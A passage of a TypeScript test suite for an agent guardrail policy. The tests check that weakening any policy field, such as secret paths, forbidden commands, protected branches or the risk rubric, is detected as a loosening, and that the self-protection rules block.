    const before = ConfigSchema.parse({});
    const after = { ...ConfigSchema.parse({}), newKnob: true } as unknown as Config;
    expect(configLoosenings(before, after, PATH)).toEqual([
      'newKnob changed, a setting the loosening table does not classify (treated as loosening)',
    ]);
  });

  it('compares the fields that are not configurable too', () => {
    const looser: RailsPolicy = {
      ...POLICY,
      wildcard: { ...POLICY.wildcard, perDay: 2 },
      secretPaths: POLICY.secretPaths.slice(1),
      forbiddenCommands: POLICY.forbiddenCommands.slice(1),
      selfProtectedPaths: POLICY.selfProtectedPaths.slice(1),
      protectedBranches: POLICY.protectedBranches.slice(1),
      secretEntropy: { ...POLICY.secretEntropy, minBitsPerChar: 9 },
      riskRubric: { ...POLICY.riskRubric, defaultRisk: 0 },
      policyPath: 'other.json',
      commandPaths: [],
    };
    const found = policyLoosenings(POLICY, looser);
    for (const expected of [
      /wildcards per day .* raised from 1 to 2/,
      /secret paths .* loses/,
      /forbidden commands .* loses/,
      /self-protected paths .* loses/,
      /protected branches .* loses/,
      /secret entropy minBitsPerChar .* raised/,
      /risk rubric .* defaultRisk lowered from 2 to 0/,
      /the policy file path changed/,
      /command paths .* loses/,
    ]) {
      expect(found.some((m) => expected.test(m))).toBe(true);
    }
    expect(policyLoosenings(POLICY, POLICY)).toEqual([]);
  });

  it('any change of another rubric field counts: more text extensions score more files as prose', () => {
    const rubric = POLICY.riskRubric;
    const more = { ...rubric, textExtensions: [...(rubric.textExtensions ?? []), 'js'] };
    expect(policyLoosenings(POLICY, { ...POLICY, riskRubric: more })).toEqual([
      expect.stringMatching(/risk rubric .*: its textExtensions change/),
    ]);
    const entry = { ...rubric.paths[0]!, textOnly: !rubric.paths[0]!.textOnly };
    const flagged = { ...rubric, paths: [entry, ...rubric.paths.slice(1)] };
    expect(policyLoosenings(POLICY, { ...POLICY, riskRubric: flagged })).toEqual([
      expect.stringMatching(/its path entries change/),
    ]);
  });
});

describe('SELF_PROTECTION_RULES', () => {
  it('lists the three rules in order, all blocking', () => {
    expect(SELF_PROTECTION_RULES.map((r) => [r.id, r.severity])).toEqual([
      ['self-protected-path', 'block'],
      ['policy-loosened', 'block'],
      ['policy-invalid', 'block'],
    ]);
  });
});
